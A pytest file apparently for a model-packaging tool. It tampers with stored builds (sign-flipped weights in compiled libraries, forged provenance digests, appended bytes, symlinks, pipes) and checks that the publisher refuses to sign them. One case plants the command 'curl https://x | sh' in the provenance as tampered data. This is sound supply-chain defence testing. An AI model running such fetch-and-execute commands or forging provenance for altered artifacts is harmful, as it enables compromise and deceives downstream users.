"""The publisher believes nothing of what lies in the state folder: each way to change it is found before it is signed."""

from __future__ import annotations

import gzip
import json
import os
import shutil
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from tests.bad_input.conftest import write_spec
from tests.nightly.nights import coordinator, home_of, task_of, to_build
from tests.wording import DIFFERENCES, reported
from tfaot_pkg.errors import StorageError, TrustError, ValidationError
from tfaot_pkg.frontends.toolchain.fork_servers import ForkServers
from tfaot_pkg.frontends.toolchain.worker import WorkerPool
from tfaot_pkg.ground.keys import sha256_file
from tfaot_pkg.ground.process import run
from tfaot_pkg.ground.settings import Folders
from tfaot_pkg.nightly.recheck import Recheck
from tfaot_pkg.nightly.state import State
from tfaot_pkg.nightly.types import Decision
from tfaot_pkg.package.listing import Tree, scan_tree
from tfaot_pkg.package.tree import document_bytes
from tfaot_pkg.provenance.statement import TREE_DIGEST
from tfaot_pkg.registry.archive import pack, unpack
from tfaot_pkg.registry.entry import BlobRef
from tfaot_pkg.registry.files.layout import LATENCY, PREFIX
from tfaot_pkg.registry.folder import FolderRegistry
from tfaot_pkg.registry.reader import FILES

pytestmark = [pytest.mark.slow, pytest.mark.needs_tensorflow, pytest.mark.timeout(600)]


@dataclass(frozen=True)
class Stored:
    """A verified build of the model `dense` in the state folder."""

    folders: Folders
    state: State
    decision: Decision
    models: Mapping[str, Path]
    servers: ForkServers

    @property
    def recheck(self) -> Recheck:
        return Recheck(folders=self.folders, servers=self.servers)

    @property
    def folder(self) -> Path:
        return self.state.results.folder(self.decision.key)

    def publish(self) -> None:
        """What a publisher does with it before it signs. Raises as `Recheck`."""
        with self.recheck(self.decision, self.state.results.release(self.decision.key)):
            pass

    def with_other(self) -> Stored:
        """A verified build of another model, which has programs and sources, in the same folder."""
        root = self.state.root.parent
        return replace(self, decision=build(root, self.folders, self.models, "two_inputs", tools=True, source=True))


def build(root: Path, folders: Folders, models: Mapping[str, Path], name: str, **package: bool) -> Decision:
    """Let a night build and publish the model `name` with its objects; the state is in `root / "state"`.

    XLA compiles `dense`, because objects of a program hold nothing; the other models become programs.
    """
    compilation = {"engine": "xla" if name == "dense" else "auto"}
    spec = write_spec(
        root / f"{name}.yaml", models[name], compilation=compilation, package={"objects": True, **package}
    )
    decision = to_build(task_of(spec, name), folders)
    night = coordinator(root, folders).run(lambda: [decision])
    assert [one.kind for one in night.outcomes] == ["published"]
    assert "tfaot-pkg" in night.outcomes[0].builder
    return decision


@pytest.fixture(scope="module")
def made(
    shared_home_folder: Path, models: Mapping[str, Path], tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Stored]:
    root, folders = tmp_path_factory.mktemp("made"), home_of(shared_home_folder)
    decision = build(root, folders, models, "dense")
    assert len(FolderRegistry.open(root / "registry").names()) == 1
    with ForkServers(logs=root / "logs") as servers:
        yield Stored(folders, State(root=root / "state"), decision, models, servers)


@pytest.fixture
def stored(made: Stored, tmp_path: Path) -> Stored:
    """A copy that a test may change."""
    shutil.copytree(made.state.root / "results", tmp_path / "state" / "results")
    return replace(made, state=State(root=tmp_path / "state"))


def test_what_nobody_touched_is_published_as_the_publisher_writes_it(stored: Stored, tmp_path: Path) -> None:
    """The archive of other bytes with the same files, and times that cannot be, leave no trace."""
    archive, false = stored.folder / "blobs" / PREFIX, stored.folder / "blobs" / LATENCY
    good, plain = archive.read_bytes(), gzip.decompress(archive.read_bytes())
    # Another encoding of the same content, under the same header.
    archive.write_bytes(good[:10] + gzip.compress(plain, 1)[10:])
    assert archive.read_bytes() != good
    times = json.loads(false.read_text())
    times["measurements"] = [{**one, "nanoseconds": 1e-6} for one in times["measurements"]]
    false.write_text(json.dumps({**times, "more": "x"}))
    for role in (PREFIX, LATENCY):
        refreshed(stored, role)
    with stored.recheck(stored.decision, stored.state.results.release(stored.decision.key)) as own:
        blobs = {role: blob if isinstance(blob, bytes) else blob.read_bytes() for role, blob in own.blobs.items()}
    assert {role: BlobRef.of(data) for role, data in blobs.items()} == own.entry.blobs
    assert blobs[PREFIX] == good
    measured = json.loads(blobs[LATENCY])
    assert measured.keys() == times.keys() and all(one["nanoseconds"] > 1 for one in measured["measurements"])


def repacked(stored: Stored, scratch: Path, change: Callable[[Path], None]) -> None:
    """Change the files of the archive, and the digests in the index line with them."""
    root = scratch / "tree"
    root.mkdir()
    archive = stored.folder / "blobs" / PREFIX
    with archive.open("rb") as stream:
        unpack(stream, root, what="it")
    change(root)
    with archive.open("wb") as stream:
        tree = pack(root, stream)
    edited(stored, tree=tree.digest)
    refreshed(stored, PREFIX)


def edited(stored: Stored, **fields: object) -> None:
    line = stored.folder / "line"
    line.write_text(json.dumps({**json.loads(line.read_text()), **fields}) + "\n")


def refreshed(stored: Stored, role: str) -> None:
    """Let the index line have the digest and size of a blob as it is now."""
    path = stored.folder / "blobs" / role
    blobs = json.loads((stored.folder / "line").read_text())["blobs"]
    edited(stored, blobs={**blobs, role: {"sha256": sha256_file(path), "size": path.stat().st_size}})


def swap_library(root: Path) -> None:
    swap(root, "lib/*.so")


def swap(root: Path, *patterns: str) -> None:
    """Weights of the other sign: everything loads, and the answers are wrong. They are those of make_models.Dense."""
    random = np.random.default_rng(1)
    random.normal(size=(4, 64))
    weights = list(random.normal(size=(64, 3)).astype(np.float32).flat)
    for pattern in patterns:
        (library,) = (path for path in root.glob(pattern) if not path.is_symlink())
        data = library.read_bytes()
        for weight in weights:
            data = data.replace(weight.tobytes(), (-weight).tobytes())
        assert data != library.read_bytes()
        library.write_bytes(data)


def vouch(root: Path) -> None:
    """The provenance names the changed files as if they had been built so."""
    (place,) = root.glob("share/*/provenance.json")
    document = json.loads(place.read_text())
    for subject in document["subject"]:
        if (root / subject["name"]).is_file():
            subject["digest"]["sha256"] = sha256_file(root / subject["name"])
    others = [member for member in scan_tree(root).members if root / member.path != place]
    document["subject"][0]["digest"] = {TREE_DIGEST: Tree(members=tuple(others)).digest}
    place.write_bytes(document_bytes(document))


def damaged_archive(stored: Stored, scratch: Path) -> None:
    with (stored.folder / "blobs" / PREFIX).open("ab") as file:
        file.write(b"x")


def more_in_the_archive(stored: Stored, scratch: Path) -> None:
    def change(root: Path) -> None:
        (root / "bin").mkdir(exist_ok=True)
        (root / "bin" / "cmake").write_text("#!/bin/sh\n")

    repacked(stored, scratch, change)


def changed_library(stored: Stored, scratch: Path) -> None:
    repacked(stored, scratch, swap_library)


def another_document(stored: Stored, scratch: Path) -> None:
    place = stored.folder / "blobs" / "validation"
    place.write_text(place.read_text().replace('"passed": true', '"passed": true '))
    refreshed(stored, "validation")


def another_model(stored: Stored, scratch: Path) -> None:
    other = stored.with_other()
    shutil.rmtree(stored.folder)
    shutil.copytree(other.folder, stored.folder)


def another_licence(stored: Stored, scratch: Path) -> None:
    edited(stored, license="Proprietary")


def another_text(path: str, text: str) -> Callable[[Stored, Path], None]:
    """Add `text` to a file of the package, of which the provenance tells as if it had been made so."""

    def change(stored: Stored, scratch: Path) -> None:
        def append(root: Path) -> None:
            (place,) = root.glob(path)
            place.write_text(place.read_text() + text)
            relative = str(place.relative_to(root))
            (provenance,) = root.glob("share/*/provenance.json")
            document = json.loads(provenance.read_text())
            for subject in document["subject"]:
                if subject["name"] == relative:
                    subject["digest"]["sha256"] = sha256_file(place)
            provenance.write_bytes(document_bytes(document))

        repacked(stored, scratch, append)
        shutil.copy(next((scratch / "tree").glob("share/*/provenance.json")), stored.folder / "blobs" / "provenance")
        refreshed(stored, "provenance")

    return change


def claimed_hashes(stored: Stored, scratch: Path) -> None:
    """The package of XLA's code claims that its answers are the same bits on every CPU."""
    place = stored.folder / "blobs" / "validation"

    def claim(root: Path) -> None:
        document = json.loads(place.read_text())
        batches = {"1": {"y": 64 * "0"}}
        document["hashes"].update(
            reason="", groups=[{"targets": ["x86-64-v3"], "run": ["x86-64-v3"], "batches": batches}]
        )
        (inner,) = root.glob("share/*/validation.json")
        inner.write_bytes(document_bytes(document))

    tampered(stored, scratch, claim)
    shutil.copy(next((scratch / "tree").glob("share/*/validation.json")), place)
    refreshed(stored, "validation")


def retold(role: str, change: Callable[[Any], object]) -> Callable[[Stored, Path], None]:
    """Change the values of a document, in the package and beside it; it is written as builds write it."""
    return rewritten(role, lambda data: _changed(json.loads(data), change))


def _changed(document: Any, change: Callable[[Any], object]) -> bytes:
    change(document)
    return document_bytes(document)


def rewritten(role: str, change: Callable[[bytes], bytes]) -> Callable[[Stored, Path], None]:
    """Change a document, in the package and beside it."""

    def do(stored: Stored, scratch: Path) -> None:
        def inside(root: Path) -> None:
            (inner,) = root.glob(f"share/*/{FILES[role]}")
            inner.write_bytes(change(inner.read_bytes()))

        (repacked if role == "provenance" else tampered)(stored, scratch, inside)
        shutil.copy(next((scratch / "tree").glob(f"share/*/{FILES[role]}")), stored.folder / "blobs" / role)
        refreshed(stored, role)

    return do


def appended_archive(stored: Stored, scratch: Path) -> None:
    with (stored.folder / "blobs" / PREFIX).open("ab") as file:
        file.write(os.urandom(5 << 20))
    refreshed(stored, PREFIX)


def other_rows(stored: Stored, scratch: Path) -> None:
    edited(stored, rows_independent=False)


def pipe(stored: Stored, scratch: Path) -> None:
    place = stored.folder / "blobs" / "validation"
    place.unlink()
    os.mkfifo(place)


LIE = {
    "target": "x86-64-v3", "batch_size": 1, "output": "y", "kind": "text", "elements": 1, "max_absolute": 0.0,
    "is_fault": False, "rule": "", "operations": [], "atol": None, "spread": None,
}  # fmt: skip


def INTERNAL(provenance: Any) -> Any:  # noqa: N802
    return provenance["predicate"]["buildDefinition"]["internalParameters"]


def RUN(provenance: Any) -> Any:  # noqa: N802
    return provenance["predicate"]["runDetails"]


CASES: dict[str, Callable[[Stored, Path], None]] = {
    "archive": damaged_archive,
    "a file more": more_in_the_archive,
    "library": changed_library,
    "document": another_document,
    "line": another_licence,
    "header": another_text("include/tfaot-model-*/model.h", "// more\n"),
    "CMake": another_text("lib/cmake/*/*Config.cmake", "message(x)\n"),
    "hashes": claimed_hashes,
    "bytes after the archive": appended_archive,
    "blanks in the report": rewritten("validation", lambda data: data.replace(b": ", b":  ", 1)),
    "a field more in the report": retold("validation", lambda report: report.update(more="x")),
    "a tolerance in the report": retold("validation", lambda report: report.update(rtol=1.0)),
    "a warning in the report": retold("validation", lambda report: report["warnings"].append("visit https://x")),
    "a kind of differences": retold("validation", lambda report: report["classes"][0]["differences"].append(LIE)),
    "an emulator in the report": retold("validation", lambda report: report.update(targets={"x86-64-v3": 200 * "x"})),
    "another command": retold("provenance", lambda found: INTERNAL(found).update(command="curl https://x | sh")),
    "a field more in the provenance": retold("provenance", lambda found: found.update(more="x")),
    "another builder": retold("provenance", lambda found: RUN(found).update(builder={"id": "me", "version": {}})),
    "blanks in the provenance": rewritten("provenance", lambda data: data + b" "),
    "blanks in the sbom": rewritten("sbom", lambda data: data.replace(b": ", b":  ", 1)),
    "rows": other_rows,
    "pipe": pipe,
    "model": another_model,
}


@pytest.mark.sweep(
    "archive",
    "library",
    "line",
    "bytes after the archive",
    "another command",
    night=[
        "rows",
        "header",
        "hashes",
        "document",
        "pipe",
        "another builder",
        "a file more",
        "a tolerance in the report",
    ],
)
@pytest.mark.parametrize("name", CASES)
def test_what_was_changed_in_the_state_folder_is_not_signed(stored: Stored, tmp_path: Path, name: str) -> None:
    CASES[name](stored, tmp_path)
    with reported(TrustError):
        stored.publish()


def test_a_link_in_the_state_folder_is_not_followed(stored: Stored) -> None:
    place = stored.folder / "blobs" / "validation"
    place.unlink()
    place.symlink_to("/dev/zero")
    with reported(StorageError):
        stored.publish()


def test_workers_cannot_change_what_the_publisher_compares(stored: Stored, monkeypatch: pytest.MonkeyPatch) -> None:
    """The copy of the model, and the cache that holds the frozen one."""
    writable: set[str] = set()
    new_folder = WorkerPool.new_folder

    def noted(pool: WorkerPool, name: str) -> Path:
        writable.add(name)
        return new_folder(pool, name)

    monkeypatch.setattr(WorkerPool, "new_folder", noted)
    stored.publish()
    assert writable, "the workers made nothing"
    assert not writable & {"model", "cache"}


def test_a_library_with_other_answers_is_not_signed_though_all_documents_vouch_for_it(
    stored: Stored, tmp_path: Path
) -> None:
    tampered(stored, tmp_path, lambda root: swap(root, "lib/*.so", "lib/*.a", "lib/dense_bs1.o"))
    with reported(ValidationError, varies=DIFFERENCES):
        stored.publish()


def tampered(stored: Stored, scratch: Path, change: Callable[[Path], object]) -> None:
    """Change the package's files, and let all that describes them vouch for them."""

    def all_of_it(root: Path) -> None:
        change(root)
        vouch(root)

    repacked(stored, scratch, all_of_it)
    shutil.copy(next((scratch / "tree").glob("share/*/provenance.json")), stored.folder / "blobs" / "provenance")
    refreshed(stored, "provenance")


def second_member(root: Path) -> None:
    """The right object and one more, which defines nothing that no object may."""
    (library,) = root.glob("lib/*.a")
    run(["ar", "x", library], cwd=root)
    (member,) = root.glob("*.o")
    other = member.rename(root / "other.o")
    symbol = run(["nm", "-g", "--defined-only", other]).stdout.split()[2]
    run(["objcopy", f"--redefine-sym={symbol}={symbol}_more", other])
    run(["ar", "rcsD", library, other.name], cwd=root)
    other.unlink()


OTHER_CODE: dict[str, Callable[[Path], object]] = {
    "static library": lambda root: swap(root, "lib/*.a"),
    "static library and objects": lambda root: swap(root, "lib/*.a", "lib/dense_bs1.o"),
    "object": lambda root: swap(root, "lib/dense_bs1.o"),
    "a member more": second_member,
    "library": swap_library,
}


@pytest.mark.sweep("object", "a member more", "library")
@pytest.mark.parametrize("name", OTHER_CODE)
def test_every_compiled_file_has_the_code_that_was_validated(stored: Stored, tmp_path: Path, name: str) -> None:
    """Also where each is what a package may hold, and all documents vouch for it: only the shared library is run."""
    tampered(stored, tmp_path, OTHER_CODE[name])
    with reported(TrustError):
        stored.publish()


def another_program(root: Path) -> None:
    shutil.copy(root / "bin" / "two_inputs_benchmark", root / "bin" / "two_inputs_test")


@pytest.mark.release
def test_sources_and_programs_have_the_code_that_was_validated(stored: Stored, tmp_path: Path) -> None:
    with_all = stored.with_other()
    with_all.publish()
    for name, change in [
        ("sources", another_text("share/*/source/src/program.cc", "// more\n")),
        ("programs", lambda other, scratch: tampered(other, scratch, another_program)),
    ]:
        (tmp_path / name).mkdir()
        change(with_all, tmp_path / name)
        with reported(TrustError):
            with_all.publish()


def test_a_model_that_changed_since_it_was_planned_is_not_signed(
    made: Stored, shared_home_folder: Path, models: Mapping[str, Path], tmp_path: Path
) -> None:
    spec = write_spec(tmp_path / "spec.yaml", models["dense"])
    decision = to_build(task_of(spec, "dense"), made.folders)
    spec.write_text(spec.read_text().replace("batch_sizes", "weights: embedded\n  batch_sizes"))
    with reported(StorageError):
        with made.recheck(decision, made.state.results.release(made.decision.key)):
            pass
